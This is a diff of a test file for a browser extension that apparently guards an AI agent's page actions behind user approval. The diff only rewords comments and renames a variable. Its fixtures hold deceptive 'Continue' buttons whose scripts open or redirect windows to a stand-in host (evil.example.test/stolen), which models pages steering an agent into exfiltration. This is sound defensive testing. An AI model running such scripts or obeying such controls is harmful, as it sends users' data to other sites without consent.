@@ -1,5 +1,5 @@
-// The guard at the network, in the real extension: a task presses controls whose words say nothing, and a scripted model obeys. Judged
-// at the server that would have received it: nothing that changes something, and nothing to another site, leaves before a yes.
+// The guard at the network, in the real extension: a task presses controls whose words reveal nothing, and a scripted
+// model obeys. Judged at the receiving server: before a yes, no change and no request to another site arrives.
 import assert from 'node:assert/strict';
 import { after, test } from 'node:test';
 
@@ -31,7 +31,7 @@ const kResponses: Record<string, Partial<SiteResponse>> = {
   '/data': { type: 'application/json; charset=utf-8', body: '{}' },
 };
 
-/** What reached a server, but for the pages themselves. */
+/** What reached a server, except the pages themselves. */
 const received: string[] = [];
 const pages = new Map<string, string>();
 
@@ -69,7 +69,7 @@ interface Ended {
   task: Task;
   asked: string[];
   title: string;
-  /** The addresses of files that the browser saves; filled on. */
+  /** The addresses of files that the browser saves; appended later. */
   saved: readonly string[];
 }
 
@@ -101,7 +101,7 @@ async function run(
 
 const button = (script: string): string => `<button onclick="${script}">Continue</button>`;
 
-/** Controls that say nothing, what they send, and what the question must say. */
+/** Controls with meaningless words, what they send, and what the question must say. */
 const kActions: ReadonlyArray<[name: string, controls: string, sends: string, question: RegExp]> = [
   [
     'a script that orders',
@@ -213,7 +213,7 @@ const kActions: ReadonlyArray<[name: string, controls: string, sends: string, qu
 for (const [name, controls, sends, question] of kActions) {
   test(`${name}: not before a yes`, async () => {
     const { task, asked, saved } = await run(controls, [press()], false);
-    // A file is known by its response.
+    // A download is recognized by its response.
     const isFile = isSaved(sends);
     assert.deepEqual(
       received.filter((one) => one === sends && !isFile),
@@ -235,7 +235,7 @@ for (const [name, controls, sends, question] of kActions) {
   });
 }
 
-/** What a new tab would ask for, where its opener counts as no site. */
+/** What a new tab would request, if its opener counts as no site. */
 const kOutOfSandbox: ReadonlyArray<[name: string, controls: string]> = [
   ['opens a tab of another site', button(`window.open('${kEvil}/stolen')`)],
   [
@@ -259,7 +259,7 @@ test('a tab that is opened empty and led to another site a moment later: nothing
   assert.equal(asked.length, 1, JSON.stringify(task));
 });
 
-/** Controls of everyday use: nobody is asked. */
+/** Everyday controls: nobody is asked. */
 const kEveryday: ReadonlyArray<[name: string, controls: string]> = [
   ['a link of the own site', '<a href=/page-x>Continue</a>'],
   ['a script that reads', button("fetch('/api/items')")],
@@ -390,7 +390,7 @@ test('a site that is blocked gets nothing, whatever is set otherwise', async () 
   }
 });
 
-/** What the second press does to a window that the first one opened. */
+/** What the second press does to the window that the first one opened. */
 const kWindows: ReadonlyArray<[name: string, controls: string, sends: string]> = [
   ['its address is set', button(`w.location = '${kEvil}/stolen'`), 'GET evil.example.test/stolen'],
   ['its address is replaced', button(`w.location.replace('${kEvil}/stolen')`), 'GET evil.example.test/stolen'],
@@ -438,8 +438,8 @@ for (const [name, controls, sends] of kWindows) {
         assert.equal(await own.title(), 'written here', 'the window stays as it was');
       }
       await eventually('the window is let go', async () => {
-        const noted = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
-        return JSON.stringify(noted) === '{"domtool.windows":[]}';
+        const stored = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
+        return JSON.stringify(stored) === '{"domtool.windows":[]}';
       });
       await own.close();
       await page.close();
@@ -484,7 +484,7 @@ test('requests that a worker held when it ended are not sent by the next one, an
   const look = () => ask(panel, { type: 'domtool.execute', tabId, call: { action: 'get_dom' } });
   await look();
   received.length = 0;
-  // As in the moment between a request and its decision, which is too short to end a worker in.
+  // Simulates the moment between a request and its decision, which is too short to end a worker in.
   await browser.worker.evaluate(async (id) => {
     await chrome.storage.session.set({ [`domtool.hold.${id}`]: true });
     await chrome.debugger.sendCommand({ tabId: id }, 'Fetch.enable', {
@@ -523,13 +523,13 @@ test('a window that a worker held when it ended is let go by the next one, and n
   await page.evaluate(() => location.assign('/held-document'));
   await isRequested;
   await killWorker(browser, panel);
-  // Any message starts the next one.
+  // Any message starts the next worker.
   await ask(panel, { type: 'domtool.none' });
   await eventually('the next worker has let go', async () => {
-    const noted = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
-    return Object.keys(noted).length === 0;
+    const stored = await browser.worker.evaluate(() => chrome.storage.session.get('domtool.windows'));
+    return Object.keys(stored).length === 0;
   });
-  // Playwright gives no title until it has heard that the other document was not loaded.
+  // Playwright returns no title until it knows that the other document was not loaded.
   await eventually('the page stays and answers', async () => (await page.title()) === 'Window');
   assert.deepEqual(received, []);
   await page.goto(site.url('/next-document', 'home.test'));
